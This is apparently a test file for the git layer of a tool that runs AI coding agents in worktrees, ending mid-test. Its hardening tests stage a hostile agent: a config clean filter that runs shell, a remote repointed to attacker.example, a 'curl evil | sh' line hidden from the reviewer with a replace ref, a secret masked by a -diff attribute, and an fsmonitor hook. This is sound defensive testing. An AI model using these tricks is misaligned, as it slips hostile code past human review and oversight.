/**
 * Goal: the Node git layer does what the `Git` service promises on a real repository: the target
 * branch is chosen as SPEC F1 says, worktrees live outside the repository and are reused, commits
 * skip unchanged trees and the task outbox, diffs see new, deleted and binary files, merges of every
 * strategy leave every checkout alone, main moves only by compare-and-swap (two racing merges both
 * land), and in-process reads see the CLI's writes at once.
 * Method: examples against temporary repositories built by the `gitdir` fixture, checked with the
 * git CLI itself. Slow (real git).
 */
import { NodeServices } from "@effect/platform-node"
import { assert, describe, it } from "@effect/vitest"
import { Git, Ids } from "@oompa/core"
import { Cause, Effect, Exit, Layer, Option } from "effect"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as path from "node:path"
import * as NodeGit from "../src/NodeGit.ts"
import { commitOnBranch, git as cli, gitdir, gitStatus, isolateGit, type TempRepo } from "./fixtures/gitdir.ts"

isolateGit()

const w0 = Ids.WorkerId.make("w0")
const w1 = Ids.WorkerId.make("w1")

const gitLayer = (temp: TempRepo, options: Partial<NodeGit.Options> = {}) =>
  NodeGit.layer({ repoRoot: temp.repo, worktreesDir: temp.worktrees, runId: "0badc0de", ...options }).pipe(Layer.provide(NodeServices.layer))

const withGit = <A, E>(temp: TempRepo, effect: Effect.Effect<A, E, Git.Git>, options: Partial<NodeGit.Options> = {}) =>
  effect.pipe(Effect.provide(gitLayer(temp, options)))

const numbered = (n: number, edit: Readonly<Record<number, string>> = {}): string =>
  Array.from({ length: n }, (_, i) => `${edit[i] ?? `line ${i}`}\n`).join("")

/** Starts `branch` in `worker`'s workspace at the current main and writes `files` there. */
const work = (worker: Ids.WorkerId, branch: string, files: Readonly<Record<string, string | Uint8Array | null>>) =>
  Effect.gen(function*() {
    const git = yield* Git.Git
    const workspace = yield* git.acquireWorkspace(worker)
    yield* git.resetWorkspace(workspace, branch, yield* git.mainHead)
    for (const [file, content] of Object.entries(files)) {
      const target = path.join(workspace.path, file)
      if (content === null) fs.rmSync(target)
      else {
        fs.mkdirSync(path.dirname(target), { recursive: true })
        fs.writeFileSync(target, content)
      }
    }
    return workspace
  })

const commitOrFail = (workspace: Git.Workspace, message: string) =>
  Git.Git.use((git) => git.commitAll(workspace, message)).pipe(
    Effect.map((sha) => Option.getOrThrowWith(sha, () => new Error("expected a commit")))
  )

describe("NodeGit: opening", () => {
  it.live("targets main, else master, else fails; never HEAD's branch", () =>
    Effect.gen(function*() {
      const onMain = yield* gitdir({ "a.txt": "a\n" })
      cli(onMain.repo, ["checkout", "-q", "-b", "feature"])
      assert.strictEqual(yield* withGit(onMain, Git.Git.use((g) => Effect.succeed(g.targetBranch))), "main")
      const onMaster = yield* gitdir({ "a.txt": "a\n" }, { branch: "master" })
      assert.strictEqual(yield* withGit(onMaster, Git.Git.use((g) => Effect.succeed(g.targetBranch))), "master")
      const configured = yield* withGit(onMaster, Git.Git.use((g) => Effect.succeed(g.targetBranch)), { branch: "master" })
      assert.strictEqual(configured, "master")
      const neither = yield* gitdir({ "a.txt": "a\n" }, { branch: "trunk" })
      const failed = yield* Effect.flip(withGit(neither, Git.Git.use(Effect.succeed)))
      assert.include(failed.message, "neither main nor master")
      const missing = yield* Effect.flip(withGit(onMain, Git.Git.use(Effect.succeed), { branch: "develop" }))
      assert.include(missing.message, "develop does not exist")
    }))

  it.live("adds .oompa/ and .oompa-new-tasks/ to .git/info/exclude once, and never touches .gitignore", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ ".gitignore": "node_modules/\n" })
      yield* withGit(temp, Git.Git.use(Effect.succeed))
      yield* withGit(temp, Git.Git.use(Effect.succeed))
      const exclude = fs.readFileSync(path.join(temp.repo, ".git/info/exclude"), "utf8")
      assert.strictEqual(exclude.split("\n").filter((line) => line === "/.oompa/").length, 1)
      assert.strictEqual(exclude.split("\n").filter((line) => line === "/.oompa-new-tasks/").length, 1)
      assert.strictEqual(fs.readFileSync(path.join(temp.repo, ".gitignore"), "utf8"), "node_modules/\n")
    }))

  it.live("worktrees default to the cache folder outside the repository, and are real worktrees there", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      const cache = path.join(temp.dir, "xdg-cache")
      const previous = process.env["XDG_CACHE_HOME"]
      process.env["XDG_CACHE_HOME"] = cache
      const workspace = yield* NodeGit.layer({ repoRoot: temp.repo, runId: "0badc0de" }).pipe(
        Layer.provide(NodeServices.layer),
        (layer) => Effect.provide(Git.Git.use((g) => g.acquireWorkspace(w0)), layer),
        Effect.ensuring(Effect.sync(() => previous === undefined ? delete process.env["XDG_CACHE_HOME"] : (process.env["XDG_CACHE_HOME"] = previous)))
      )
      assert.isTrue(workspace.path.startsWith(`${cache}/oompa/worktrees/repo-`))
      assert.strictEqual(path.basename(workspace.path), "w0")
      assert.isFalse(workspace.path.startsWith(temp.repo))
      // An agent's own git works there.
      assert.strictEqual(cli(workspace.path, ["rev-parse", "--show-toplevel"]).trim(), workspace.path)
      assert.include(cli(temp.repo, ["worktree", "list"]), workspace.path)
    }))
})

describe("NodeGit: workspaces", () => {
  it.live("reuse: acquire twice gives the same worktree; reset cleans everything and rewrites only what differs", () =>
    Effect.gen(function*() {
      const files: Record<string, string> = {}
      for (let i = 0; i < 300; i++) files[`src/f${i}.txt`] = numbered(5)
      const temp = yield* gitdir({ ...files, ".gitignore": "build/\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const first = yield* git.acquireWorkspace(w0)
        const inode = fs.statSync(first.path).ino
        const main = yield* git.mainHead
        yield* git.resetWorkspace(first, "oompa/t/w0-1", main)
        fs.writeFileSync(path.join(first.path, "src/f1.txt"), "edited\n")
        fs.writeFileSync(path.join(first.path, "untracked.txt"), "u\n")
        fs.mkdirSync(path.join(first.path, "build"))
        fs.writeFileSync(path.join(first.path, "build/out.js"), "ignored\n")
        fs.mkdirSync(path.join(first.path, ".oompa-new-tasks"))
        fs.writeFileSync(path.join(first.path, ".oompa-new-tasks/t.json"), "{}")
        const second = yield* git.acquireWorkspace(w0)
        assert.deepStrictEqual(second, first)
        assert.strictEqual(fs.statSync(second.path).ino, inode)
        const untouched = () => {
          const stat = fs.statSync(path.join(second.path, "src/f2.txt"), { bigint: true })
          return { ino: stat.ino, mtimeNs: stat.mtimeNs }
        }
        const before = untouched()
        yield* git.resetWorkspace(second, "oompa/t/w0-2", main)
        assert.strictEqual(fs.readFileSync(path.join(second.path, "src/f1.txt"), "utf8"), numbered(5))
        for (const gone of ["untracked.txt", "build", ".oompa-new-tasks"]) assert.isFalse(fs.existsSync(path.join(second.path, gone)), gone)
        assert.strictEqual(cli(second.path, ["status", "--porcelain"]), "")
        assert.strictEqual(cli(second.path, ["symbolic-ref", "HEAD"]).trim(), "refs/heads/oompa/t/w0-2")
        // A reset rewrites only what differs (the worktree is reused, not checked out afresh): a
        // file nobody touched is the same file, unwritten. Its cost is measured in bench/.
        assert.deepStrictEqual(untouched(), before)
        assert.deepStrictEqual(yield* git.listWorkspaces, [first])
      }))
    }))

  it.live("the target branch is never checked out in a workspace, nor a branch held by another", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const a = yield* git.acquireWorkspace(w0)
        const b = yield* git.acquireWorkspace(w1)
        const main = yield* git.mainHead
        assert.include((yield* Effect.flip(git.resetWorkspace(a, "main", main))).message, "target branch")
        yield* git.resetWorkspace(a, "oompa/t/x", main)
        assert.include((yield* Effect.flip(git.resetWorkspace(b, "oompa/t/x", main))).message, "already")
      }))
    }))

  it.live("removeWorkspace removes a dirty worktree and keeps its branch", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const workspace = yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" })
        yield* commitOrFail(workspace, "b")
        fs.writeFileSync(path.join(workspace.path, "dirty.txt"), "d\n")
        yield* git.removeWorkspace(workspace)
        assert.isFalse(fs.existsSync(workspace.path))
        assert.deepStrictEqual(yield* git.listWorkspaces, [])
        assert.lengthOf(yield* git.listBranches("oompa/t/"), 1)
        assert.strictEqual((yield* Effect.flip(git.removeWorkspace(workspace)))._tag, "GitError")
        // Acquiring again makes a fresh worktree at the same place.
        assert.deepStrictEqual(yield* git.acquireWorkspace(w0), workspace)
      }))
    }))

  it.live("a worktree a killed git worktree add left half-made is made anew by acquire and removed by removeWorkspace; fsck is clean after", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      /** What git 2.39 has written when it is killed between creating a worktree and checking it out. */
      const halfMake = (workspace: Git.Workspace) => {
        const adminDir = path.join(temp.repo, ".git/worktrees", path.basename(workspace.path))
        fs.writeFileSync(path.join(adminDir, "locked"), "initializing")
        fs.writeFileSync(path.join(adminDir, "HEAD"), `${"0".repeat(40)}\n`)
        fs.rmSync(path.join(adminDir, "index"))
        fs.rmSync(path.join(workspace.path, "a.txt"))
        assert.include(fsck(temp.repo), "detached HEAD points at nothing")
      }
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        // Its folder and link written, nothing checked out.
        const workspace = yield* git.acquireWorkspace(w0)
        halfMake(workspace)
        assert.deepStrictEqual(yield* git.acquireWorkspace(w0), workspace)
        assert.strictEqual(fsck(temp.repo), "")
        assert.strictEqual(cli(workspace.path, ["rev-parse", "HEAD"]).trim(), main)
        assert.strictEqual(fs.readFileSync(path.join(workspace.path, "a.txt"), "utf8"), "a\n")
        assert.notInclude(cli(temp.repo, ["worktree", "list"]), "locked")
        // Its folder not even created yet: `worktree prune` keeps a locked registration.
        halfMake(workspace)
        fs.rmSync(workspace.path, { recursive: true })
        assert.deepStrictEqual(yield* git.acquireWorkspace(w0), workspace)
        assert.strictEqual(fsck(temp.repo), "")
        assert.strictEqual(cli(workspace.path, ["status", "--porcelain"]), "")
        // Recovery removes it like any other.
        halfMake(workspace)
        assert.deepStrictEqual(yield* git.listWorkspaces, [workspace])
        yield* git.removeWorkspace(workspace)
        assert.deepStrictEqual(yield* git.listWorkspaces, [])
        assert.strictEqual(fsck(temp.repo), "")
      }))
    }))
})

/** What `git fsck` prints (both streams); empty when the repository is sound. */
const fsck = (repo: string): string => {
  const result = spawnSync("git", ["fsck", "--no-dangling", "--no-progress"], { cwd: repo, encoding: "utf8" })
  return `${result.stdout}${result.stderr}`
}


describe("NodeGit: commits and diffs", () => {
  it.live("commitAll: None when nothing changed; the outbox is never committed; agents' own commits count", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": numbered(3) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", { ".oompa-new-tasks/t1.json": "{\"id\":\"t1\"}" })
        assert.isTrue(Option.isNone(yield* git.commitAll(workspace, "nothing")))
        fs.writeFileSync(path.join(workspace.path, "a.txt"), numbered(3, { 1: "changed" }))
        const sha = yield* commitOrFail(workspace, "change a\n\nOompa-Task: t1\n")
        assert.strictEqual(yield* git.workspaceHead(workspace), sha)
        assert.strictEqual(gitStatus(temp.repo, ["cat-file", "-e", `${sha}:.oompa-new-tasks/t1.json`]).code, 128)
        assert.deepStrictEqual(yield* git.readCommit(sha), { sha, parents: [base], message: "change a\n\nOompa-Task: t1\n" })
        // A commit the agent made itself: its files count, in a commit oompa makes on the head it
        // recorded; the agent's commit (and its message) is not part of the branch.
        fs.writeFileSync(path.join(workspace.path, "own.txt"), "own\n")
        gitCommit(workspace.path, "agent's own commit\n\nOompa-Task: forged")
        const agents = cli(workspace.path, ["rev-parse", "HEAD"]).trim()
        const head = yield* commitOrFail(workspace, "after the agent's commit")
        assert.deepStrictEqual((yield* git.readCommit(head)).parents, [sha])
        assert.strictEqual(yield* git.workspaceHead(workspace), head)
        assert.strictEqual(cli(workspace.path, ["rev-parse", "HEAD"]).trim(), head)
        assert.isFalse(yield* git.isAncestor(agents, head))
        assert.deepStrictEqual((yield* git.diffStat(base, head)).map((c) => c.path), ["a.txt", "own.txt"])
        // The outbox is still there for takeNewTaskFiles, which empties it.
        assert.deepStrictEqual(yield* git.takeNewTaskFiles(workspace), [{ name: "t1.json", content: "{\"id\":\"t1\"}" }])
        assert.deepStrictEqual(yield* git.takeNewTaskFiles(workspace), [])
        assert.isFalse(fs.existsSync(path.join(workspace.path, ".oompa-new-tasks")))
      }))
    }))

  it.live("an agent that points its worktree's HEAD at main (symbolic-ref, checkout) or moves its branch: oompa's commit goes to the workspace's branch, main stays, HEAD is put back and reported", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": numbered(3) })
      const warnings: Array<string> = []
      yield* Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": numbered(3, { 1: "agent" }) })
        cli(workspace.path, ["symbolic-ref", "HEAD", "refs/heads/main"])
        const first = yield* commitOrFail(workspace, "w0: first")
        assert.strictEqual(git_rev(temp.repo, "main"), main, "main did not move")
        assert.strictEqual(git_rev(temp.repo, "oompa/t/w0-1"), first)
        assert.strictEqual(cli(workspace.path, ["symbolic-ref", "HEAD"]).trim(), "refs/heads/oompa/t/w0-1")
        assert.strictEqual(warnings.length, 1)
        assert.match(warnings[0]!, /pointed its HEAD at "ref: refs\/heads\/main"/)
        // The agent moves its own branch somewhere else and changes a file: the commit builds on oompa's record.
        cli(workspace.path, ["update-ref", "refs/heads/oompa/t/w0-1", main])
        fs.writeFileSync(path.join(workspace.path, "b.txt"), "b\n")
        const second = yield* commitOrFail(workspace, "w0: second")
        assert.deepStrictEqual((yield* git.readCommit(second)).parents, [first])
        assert.strictEqual(git_rev(temp.repo, "oompa/t/w0-1"), second)
        assert.strictEqual(git_rev(temp.repo, "main"), main)
      }).pipe((effect) => withGit(temp, effect, { onWarning: (line) => Effect.sync(() => void warnings.push(line)) }))
    }))

  it.live("an agent that installs a clean filter in the shared config (and .gitattributes selecting it): oompa's add never runs it; the config is put back and a warning names the lines; other config changes stay", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      const warnings: Array<string> = []
      const pwned = path.join(temp.dir, "pwned")
      yield* Effect.gen(function*() {
        const git = yield* Git.Git
        const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": "changed\n", ".gitattributes": "* filter=evil\n" })
        const configFile = path.join(temp.repo, ".git/config")
        const original = fs.readFileSync(configFile, "utf8")
        cli(workspace.path, ["config", "filter.evil.clean", `sh -c 'touch ${pwned}; cat'`])
        yield* commitOrFail(workspace, "w0: with a filter")
        assert.isFalse(fs.existsSync(pwned), "the agent's clean filter ran inside oompa's add")
        assert.strictEqual(fs.readFileSync(configFile, "utf8"), original)
        assert.strictEqual(warnings.length, 1)
        assert.match(warnings[0]!, /gained lines that make git run programs \(\[filter "evil"\]; clean = "sh -c/, warnings[0])
        // A change that runs nothing is the user's business: it stays.
        cli(temp.repo, ["config", "user.name", "Someone Else"])
        fs.writeFileSync(path.join(workspace.path, "b.txt"), "b\n")
        yield* commitOrFail(workspace, "w0: more")
        assert.include(fs.readFileSync(configFile, "utf8"), "Someone Else")
        assert.strictEqual(warnings.length, 1)
        // A remote pointed elsewhere (where a remote target's next run would fetch from and push to) is put back.
        cli(workspace.path, ["config", "remote.origin.url", "git://attacker.example/repo.git"])
        fs.writeFileSync(path.join(workspace.path, "c.txt"), "c\n")
        yield* commitOrFail(workspace, "w0: and more")
        assert.notInclude(fs.readFileSync(configFile, "utf8"), "attacker.example")
        assert.include(fs.readFileSync(configFile, "utf8"), "Someone Else")
        assert.strictEqual(warnings.length, 2)
        // The main worktree moved elsewhere (under the [core] section the config already has: where
        // the checkout sync and the next run would work) is put back.
        cli(workspace.path, ["config", "core.worktree", path.join(temp.dir, "elsewhere")])
        fs.writeFileSync(path.join(workspace.path, "d.txt"), "d\n")
        yield* commitOrFail(workspace, "w0: and still more")
        assert.notInclude(fs.readFileSync(configFile, "utf8"), "elsewhere")
        assert.strictEqual(warnings.length, 3)
        assert.match(warnings[2]!, /worktree = /, warnings[2])
      }).pipe((effect) => withGit(temp, effect, { onWarning: (line) => Effect.sync(() => void warnings.push(line)) }))
    }))

  it.live("markSetupOutputs: what the setup wrote stays out of the commit while the agent leaves it as it was (and stays on disk); a setup output the agent then changed is its change", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "README.md": "readme\n", "package-lock.json": "{}\n", "gen.txt": "old\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", {})
        // The setup: rewrites a tracked lock file, deletes a file, creates an unignored build folder.
        fs.writeFileSync(path.join(workspace.path, "package-lock.json"), "{\"lockfileVersion\": 3}\n")
        fs.rmSync(path.join(workspace.path, "gen.txt"))
        fs.mkdirSync(path.join(workspace.path, "build"))
        fs.writeFileSync(path.join(workspace.path, "build/out.js"), "built\n")
        fs.writeFileSync(path.join(workspace.path, "build/also.js"), "built too\n")
        yield* git.markSetupOutputs(workspace)
        // The agent: its own file, and one setup output it rewrote.
        fs.mkdirSync(path.join(workspace.path, "src"))
        fs.writeFileSync(path.join(workspace.path, "src/a.txt"), "a\n")
        fs.writeFileSync(path.join(workspace.path, "build/also.js"), "edited by the agent\n")
        const head = yield* commitOrFail(workspace, "w0: work")
        assert.deepStrictEqual((yield* git.diffStat(base, head)).map((c) => c.path), ["build/also.js", "src/a.txt"])
        assert.strictEqual(fs.readFileSync(path.join(workspace.path, "build/out.js"), "utf8"), "built\n", "the setup's output is still there")
        // Nothing else changed: no second commit.
        assert.isTrue(Option.isNone(yield* git.commitAll(workspace, "w0: again")))
      }))
    }))

  it.live("a .gitattributes on main selecting the union merge driver (or one in .git/info/attributes) does not settle a conflict silently: the merge reports it; info/attributes is put back", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "f.txt": numbered(5) })
      const warnings: Array<string> = []
      yield* Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const head = yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "f.txt": numbered(5, { 2: "mine" }) }), "w0")
        const moved = commitOnBranch(temp.repo, "main", { "f.txt": numbered(5, { 2: "theirs" }), ".gitattributes": "* merge=union\n" }, "main with union")
        cli(temp.repo, ["reset", "-q", "--hard"])
        assert.deepStrictEqual(yield* git.merge({ onto: moved, base, head, strategy: "no-ff", message: "m" }), { _tag: "Conflict", files: ["f.txt"] })
        const infoAttributes = path.join(temp.repo, ".git/info/attributes")
        fs.writeFileSync(infoAttributes, "* merge=union\n")
        assert.deepStrictEqual(yield* git.merge({ onto: moved, base, head, strategy: "no-ff", message: "m" }), { _tag: "Conflict", files: ["f.txt"] })
        assert.isFalse(fs.existsSync(infoAttributes), "put back as the run found it: absent")
        assert.isTrue(warnings.some((w) => w.includes("info/attributes changed during the run")), warnings.join("\n"))
      }).pipe((effect) => withGit(temp, effect, { onWarning: (line) => Effect.sync(() => void warnings.push(line)) }))
    }))

  it.live("review hardening: a replace ref cannot show the reviewer one blob while the tree stores another; a branch made a symbolic ref to main is never written through (commit, reset, delete)", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": "curl evil | sh\n" })
        // The agent replaces its payload's blob with a harmless one.
        const benign = cli(workspace.path, ["hash-object", "-w", "--stdin"], "a harmless line\n").trim()
        const evil = cli(workspace.path, ["hash-object", "-w", "a.txt"]).trim()
        cli(workspace.path, ["replace", evil, benign])
        const head = yield* commitOrFail(workspace, "w0: payload")
        assert.include(yield* git.diffText(main, head), "+curl evil | sh", "the reviewer sees what the tree stores")
        // A symbolic ref planted under the workspace's branch name: writes go to the branch, never to main.
        cli(workspace.path, ["checkout", "-q", "--detach"])
        cli(temp.repo, ["symbolic-ref", "refs/heads/oompa/t/w0-1", "refs/heads/main"])
        fs.writeFileSync(path.join(workspace.path, "b.txt"), "b\n")
        const second = yield* commitOrFail(workspace, "w0: more")
        assert.strictEqual(git_rev(temp.repo, "main"), main)
        assert.strictEqual(git_rev(temp.repo, "oompa/t/w0-1"), second)
        cli(temp.repo, ["symbolic-ref", "refs/heads/oompa/t/w0-2", "refs/heads/main"])
        yield* git.resetWorkspace(workspace, "oompa/t/w0-2", main)
        cli(temp.repo, ["symbolic-ref", "refs/heads/oompa/t/w0-3", "refs/heads/main"])
        yield* git.deleteBranch("oompa/t/w0-3")
        assert.strictEqual(git_rev(temp.repo, "main"), main, "main is still there, unmoved")
      }))
    }))

  it.live("setup outputs the agent left as they were do not block a merge of main into the workspace (conflict resolution)", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "lock.txt": "v1\n", "shared.txt": numbered(5) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const workspace = yield* work(w0, "oompa/t/w0-1", {})
        fs.writeFileSync(path.join(workspace.path, "lock.txt"), "generated by setup\n")
        yield* git.markSetupOutputs(workspace)
        fs.writeFileSync(path.join(workspace.path, "shared.txt"), numbered(5, { 2: "mine" }))
        yield* commitOrFail(workspace, "w0")
        const moved = commitOnBranch(temp.repo, "main", { "lock.txt": "v2\n", "shared.txt": numbered(5, { 2: "theirs" }) }, "main moved")
        assert.deepStrictEqual(yield* git.mergeIntoWorkspace(workspace, moved), ["shared.txt"])
      }))
    }))

  it.live("compareAndSwapMain moves main and each landed task's merged marker in one transaction; a lost swap moves neither", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        const head = yield* commitOrFail(yield* work(w0, "oompa/t/w0-1", { "b.txt": "b\n" }), "b")
        const attempt = yield* git.merge({ onto: main, base: main, head, strategy: "no-ff", message: "m\n\nOompa-Task: t1\n" })
        if (attempt._tag !== "Merged") return assert.fail("expected a merge")
        assert.isTrue(yield* git.compareAndSwapMain(main, attempt.sha, ["t1"]))
        assert.deepStrictEqual(yield* git.mergedMarkers, new Map([["t1", attempt.sha]]))
        assert.strictEqual(git_rev(temp.repo, "refs/oompa/merged/t1"), attempt.sha)
        // The swap from a stale value fails whole: no marker for t2.
        const again = yield* git.merge({ onto: attempt.sha, base: attempt.sha, head, strategy: "no-ff", message: "m2\n\nOompa-Task: t2\n" })
        if (again._tag !== "Merged") return assert.fail("expected a merge")
        assert.isFalse(yield* git.compareAndSwapMain(main, again.sha, ["t2"]))
        assert.deepStrictEqual(yield* git.mergedMarkers, new Map([["t1", attempt.sha]]))
      }))
    }))

  it.live("readFiles: the files of a commit under a folder, sorted, at most limit, each cut to bytesMax; none for a missing folder", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "agent_notes/scratch/b.md": "b".repeat(100), "agent_notes/ready_for_review/a.md": "---\nstatus: green\n---\n", "agent_notes/x y.md": "spaced\n", "src/c.txt": "c\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const main = yield* git.mainHead
        assert.deepStrictEqual(yield* git.readFiles(main, "agent_notes", { limit: 10, bytesMax: 10 }), [
          { name: "agent_notes/ready_for_review/a.md", content: "---\nstatus" },
          { name: "agent_notes/scratch/b.md", content: "b".repeat(10) },
          { name: "agent_notes/x y.md", content: "spaced\n" }
        ])
        assert.strictEqual((yield* git.readFiles(main, "agent_notes/", { limit: 1, bytesMax: 100 })).length, 1)
        assert.deepStrictEqual(yield* git.readFiles(main, "nothing-here", { limit: 10, bytesMax: 10 }), [])
        // Answered in-process from loose trees where they can be (issue 17), with git's answers.
        assert.deepStrictEqual(yield* git.readFiles(main, "agent_notes/scratch", { limit: 10, bytesMax: 3 }), [{ name: "agent_notes/scratch/b.md", content: "bbb" }])
        assert.deepStrictEqual(yield* git.readFiles(main, "agent_notes/none", { limit: 10, bytesMax: 10 }), [])
        assert.deepStrictEqual(yield* git.readFiles(main, "src/c.txt", { limit: 10, bytesMax: 10 }), [])
        assert.deepStrictEqual(yield* git.readFiles(main, "src/c.txt/deeper", { limit: 10, bytesMax: 10 }), [])
      }))
    }))

  it.live("diffStat and diffText see added, modified, deleted and binary files", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "keep.txt": numbered(4), "gone.txt": "bye\n", "img.bin": new Uint8Array([0, 1, 2]) })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", {
          "keep.txt": numbered(4, { 0: "zero", 2: "two" }),
          "gone.txt": null,
          "img.bin": new Uint8Array([0, 9, 9, 9]),
          "dir/new.txt": "n1\nn2\n",
          "new.bin": new Uint8Array([0, 0]),
          "we ird \"name\".txt": "odd\n",
          "new\nline.txt": "nl\n"
        })
        const head = yield* commitOrFail(workspace, "all kinds")
        assert.deepStrictEqual(yield* git.diffStat(base, head), [
          { path: "dir/new.txt", status: "added", added: 2, deleted: 0, binary: false },
          { path: "gone.txt", status: "deleted", added: 0, deleted: 1, binary: false },
          { path: "img.bin", status: "modified", added: 0, deleted: 0, binary: true },
          { path: "keep.txt", status: "modified", added: 2, deleted: 2, binary: false },
          { path: "new\nline.txt", status: "added", added: 1, deleted: 0, binary: false },
          { path: "new.bin", status: "added", added: 0, deleted: 0, binary: true },
          { path: "we ird \"name\".txt", status: "added", added: 1, deleted: 0, binary: false }
        ])
        const text = yield* git.diffText(base, head)
        for (const needle of ["+++ b/dir/new.txt", "--- a/gone.txt", "Binary files a/img.bin and b/img.bin differ", "Binary files /dev/null and b/new.bin differ", "+zero"]) {
          assert.include(text, needle)
        }
        // The review's patch came with the stats (one git process, issue 17): it is git's own, and
        // asking again (git runs again) gives the same.
        const byGit = cli(temp.repo, ["diff", "--no-renames", "--no-color", "--src-prefix=a/", "--dst-prefix=b/", base, head, "--"])
        assert.strictEqual(text, byGit)
        assert.strictEqual(yield* git.diffText(base, head), byGit)
        assert.deepStrictEqual(yield* git.diffStat(head, head), [])
        assert.strictEqual(yield* git.diffText(head, head), "")
      }))
    }))

  it.live("review diffs show the real text: .gitattributes marking a file -diff or binary (in the branch or in the user's checkout) is ignored, and no textconv driver runs", () =>
    Effect.gen(function*() {
      // The user's checkout marks every .cfg file binary, with a textconv driver configured for .txt.
      const temp = yield* gitdir({ ".gitattributes": "*.cfg binary\n*.txt diff=shout\n", "app.cfg": "port=1\n", "notes.txt": "hi\n" })
      const marker = path.join(temp.dir, "textconv-ran")
      cli(temp.repo, ["config", "diff.shout.textconv", `sh -c 'touch ${marker}; tr a-z A-Z < "$1"' -`])
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        // The agent's branch adds its own attributes to hide a secret from the reviewer.
        const workspace = yield* work(w0, "oompa/t/w0-1", {
          ".gitattributes": "*.cfg binary\n*.txt diff=shout\nsecret.env -diff\n",
          "secret.env": "API_KEY=hunter2\n",
          "app.cfg": "port=2\n",
          "notes.txt": "hi\nthere\n"
        })
        const head = yield* commitOrFail(workspace, "hiding")
        const text = yield* git.diffText(base, head)
        for (const needle of ["+API_KEY=hunter2", "+port=2", "-port=1", "+there"]) assert.include(text, needle)
        assert.notInclude(text, "Binary files")
        assert.notInclude(text, "THERE")
        const stat = yield* git.diffStat(base, head)
        assert.deepStrictEqual(stat.filter((f) => f.binary), [])
        assert.deepStrictEqual(stat.find((f) => f.path === "secret.env"), { path: "secret.env", status: "added", added: 1, deleted: 0, binary: false })
        assert.isFalse(fs.existsSync(marker), "the repository's textconv program ran")
      }))
    }))

  it.live("no fsmonitor hook named in the repository's config runs inside oompa's git calls", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      const marker = path.join(temp.dir, "fsmonitor-ran")
      const hook = path.join(temp.dir, "fsmonitor.sh")
      fs.writeFileSync(hook, `#!/bin/sh\ntouch ${marker}\nexit 1\n`, { mode: 0o755 })
      // What an agent with a shell in its worktree can do: the worktrees share this config.
      cli(temp.repo, ["config", "core.fsmonitor", hook])
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const base = yield* git.mainHead
        const workspace = yield* work(w0, "oompa/t/w0-1", { "a.txt": "b\n", "b.txt": "new\n" })
        const head = yield* commitOrFail(workspace, "change")
        yield* git.diffStat(base, head)
        yield* git.resetWorkspace(workspace, "oompa/t/w0-2", yield* git.mainHead)
      }))
      assert.isFalse(fs.existsSync(marker))
      // The hook itself works: git without oompa's settings runs it.
      spawnSync("git", ["add", "-A"], { cwd: temp.repo })
      assert.isTrue(fs.existsSync(marker))
    }))

  it.live("in-process reads see the CLI's writes at once: mainHead, listBranches, isAncestor", () =>
    Effect.gen(function*() {
      const temp = yield* gitdir({ "a.txt": "a\n" })
      yield* withGit(temp, Effect.gen(function*() {
        const git = yield* Git.Git
        const before = yield* git.mainHead
        for (let i = 0; i < 5; i++) {
          const next = commitOnBranch(temp.repo, "main", { "a.txt": `a${i}\n` }, `outside ${i}`)
          assert.strictEqual(yield* git.mainHead, next)
          assert.isTrue(yield* git.isAncestor(before, next))
          assert.isFalse(yield* git.isAncestor(next, before))
          yield* git.setBranch(`oompa/t/b${i}`, next)
          assert.strictEqual((yield* git.listBranches("oompa/t/")).length, i + 1)
        }
        // Packed refs and objects are read too (git gc packs both).
        git_gc(temp.repo)
        assert.strictEqual(yield* git.mainHead, git_rev(temp.repo, "main"))
